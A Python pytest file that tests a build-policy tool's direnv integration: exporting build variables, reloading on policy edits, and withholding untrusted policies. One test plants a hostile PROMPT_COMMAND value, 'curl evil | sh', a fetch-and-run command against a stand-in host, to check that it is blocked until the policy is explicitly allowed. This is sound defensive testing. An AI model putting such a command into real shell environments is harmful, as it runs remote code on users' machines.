"""The documented `.envrc` with the real direnv: loads `buildpolicy env`, reloads on policy edits."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
DIRENV = shutil.which("direnv")
pytestmark = pytest.mark.skipif(DIRENV is None, reason="direnv comes from scripts/install-system-deps.sh")


@pytest.fixture
def denv(tmp_path, base_env) -> dict[str, str]:
    """An environment for direnv: its own config/data dirs, and `buildpolicy` on PATH as this interpreter."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / "buildpolicy"
    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m buildpolicy "$@"\n')
    wrapper.chmod(0o755)
    env = dict(base_env)
    env.update({
        "PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin",
        "PYTHONPATH": str(REPO),
        "XDG_DATA_HOME": str(tmp_path / "home" / "data"),  # direnv's allow list
        "DIRENV_CONFIG": str(tmp_path / "home" / "direnv-config"),
        "DIRENV_LOG_FORMAT": "direnv: %s",
    })
    return env


@pytest.fixture
def project(tmp_path, denv) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    subprocess.run([sys.executable, "-m", "buildpolicy", "init", "--direnv", "-q"], cwd=root, env=denv, check=True)
    subprocess.run([DIRENV, "allow", str(root)], env=denv, check=True, capture_output=True, timeout=60)
    return root


def direnv(*args: str, env: dict, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([DIRENV, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=120)


def test_envrc_exports_the_decided_environment(project, denv):
    env = dict(denv, CI="true", BUILDPOLICY_JOBS="3")
    proc = direnv("exec", str(project), "sh", "-c", 'printf "%s %s" "$CARGO_BUILD_JOBS" "$CARGO_TERM_PROGRESS_WHEN"',
                  env=env, cwd=project)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "3 never"


def _apply(env: dict, exported: str) -> dict:
    changes = json.loads(exported) if exported.strip() else {}
    env = dict(env)
    for name, value in changes.items():
        if value is None:
            env.pop(name, None)
        else:
            env[name] = value
    return env


def test_policy_edits_are_watched(project, denv):
    first = direnv("export", "json", env=denv, cwd=project)
    assert first.returncode == 0, first.stderr
    shell = _apply(denv, first.stdout)
    assert "CARGO_NET_OFFLINE" not in shell and "DIRENV_WATCHES" in shell
    # Nothing changed: direnv has nothing to do.
    assert direnv("export", "json", env=shell, cwd=project).stdout.strip() in ("", "{}")
    policy = project / "policies" / "project.toml"
    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "offline"\nenv = { CARGO_NET_OFFLINE = "true" }\n')
    later = policy.stat().st_mtime + 5  # direnv compares whole seconds
    os.utime(policy, (later, later))
    reloaded = direnv("export", "json", env=shell, cwd=project)
    assert reloaded.returncode == 0, reloaded.stderr
    assert json.loads(reloaded.stdout)["CARGO_NET_OFFLINE"] == "true"
    # Leaving the directory restores the shell.
    outside = direnv("export", "json", env=_apply(shell, reloaded.stdout), cwd=project.parent)
    assert json.loads(outside.stdout)["CARGO_NET_OFFLINE"] is None


def test_untrusted_policies_export_nothing_and_say_why(project, denv):
    policy = project / "policies" / "project.toml"
    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "hook"\nenv = { PROMPT_COMMAND = "curl evil | sh" }\n')
    proc = direnv("exec", str(project), "sh", "-c", 'printf "%s|%s" "$PROMPT_COMMAND" "${CARGO_BUILD_JOBS-unset}"',
                  env=denv, cwd=project)
    assert proc.stdout == "|unset"
    assert "PROMPT_COMMAND, which is not a build variable" in proc.stderr and "buildpolicy allow" in proc.stderr
    subprocess.run([sys.executable, "-m", "buildpolicy", "allow", "-q"], cwd=project, env=denv, check=True)
    allowed = direnv("exec", str(project), "sh", "-c", 'printf %s "$PROMPT_COMMAND"', env=denv, cwd=project)
    assert allowed.stdout == "curl evil | sh"
